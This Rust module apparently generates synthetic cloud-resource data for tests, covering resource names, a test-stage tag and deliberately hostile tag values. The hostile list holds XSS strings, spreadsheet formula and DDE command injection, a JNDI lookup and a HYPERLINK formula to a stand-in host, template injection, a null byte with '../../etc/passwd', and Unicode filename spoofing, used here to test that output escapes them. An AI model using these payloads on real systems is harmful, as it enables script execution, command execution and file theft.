//! Resource names, and hostile tag values.

use std::sync::Arc;

use super::draft::Draft;
use super::resource::{Kind, Resource};
use super::uses::Use;

/// Roles of resources, used in their names.
const ROLES: [&str; 12] =
    ["api", "worker", "batch", "web", "gateway", "search", "ingest", "report", "cache", "queue", "stream", "model"];

/// Number of resources with each hostile value.
const TIMES: usize = 4;

/// `checkout-worker-07`, with the owner's team first.
pub(super) fn name(of: &Use, role: &str, number: usize) -> String {
    let team = of.attributes.tags.value("Team");
    let team = if team.is_empty() { "legacy" } else { team };
    format!("{team}-{role}-{number:02}")
}

/// A role by its number.
pub(super) fn role(number: usize) -> &'static str {
    ROLES.get(number % ROLES.len()).copied().unwrap_or("api")
}

/// Values that a reader must treat as text, whatever they look like.
fn hostile() -> Vec<(&'static str, String)> {
    vec![
        ("Name", "<script>alert(1)</script>".to_owned()),
        ("Name", "\"><img src=x onerror=alert(1)>".to_owned()),
        ("Name", "=HYPERLINK(\"http://evil.example\",\"open\")".to_owned()),
        ("Name", "@SUM(A1:A9)".to_owned()),
        ("Name", "+1+cmd|' /C calc'!A0".to_owned()),
        ("Name", "-2+3".to_owned()),
        ("Note", "\t=1+1".to_owned()),
        ("Note", "two\nlines\r\nand \"quotes\", 'single' too".to_owned()),
        ("Note", "x".repeat(256)),
        ("Note", String::new()),
        ("Name", "خادم الدفع".to_owned()),
        ("Name", "订单服务-生产".to_owned()),
        ("Name", "\u{202E}gnp.exe\u{202C} 🦀".to_owned()),
        ("Note", "zero\u{200B}width\u{FEFF}".to_owned()),
        ("<b>key</b>", "{{constructor.constructor('alert(1)')()}}".to_owned()),
        ("Note", "${jndi:ldap://evil.example/a} %00 ../../etc/passwd".to_owned()),
    ]
}

/// The payer's account is production by its cost allocation tags. One Multi-AZ database without such a tag is for
/// tests, by a tag key that the bill does not have.
pub(super) fn add_test_stage(draft: &mut Draft<'_>) {
    let is_it = |resource: &Resource| {
        let has_environment = resource.tags.iter().any(|(key, _)| **key == *"Environment");
        matches!(&resource.kind, Kind::Database(it) if it.is_multi_az) && resource.member == 0 && !has_environment
    };
    let (key, value) = (draft.word("Stage"), draft.word("test"));
    if let Some(resource) = draft.places(is_it).first().and_then(|place| draft.resources.get_mut(*place as usize)) {
        resource.tags.push((key, value));
    }
}

/// Writes hostile values into the tags of resources that accept any text.
pub(super) fn add_hostile(draft: &mut Draft<'_>) {
    let takes_any_text =
        |resource: &Resource| matches!(resource.kind, Kind::Instance(_) | Kind::Volume(_) | Kind::Function(_));
    let places = draft.places(takes_any_text);
    // Each several times, all along the list: every account and kind gets some.
    let step = (places.len() / TIMES / hostile().len()).max(1);
    for ((key, value), place) in hostile().into_iter().cycle().zip(places.into_iter().step_by(step)) {
        let key = draft.word(key);
        let Some(resource) = draft.resources.get_mut(place as usize) else { continue };
        resource.tags.retain(|(other, _)| *other != key);
        resource.tags.push((key, Arc::from(value.as_str())));
    }
}
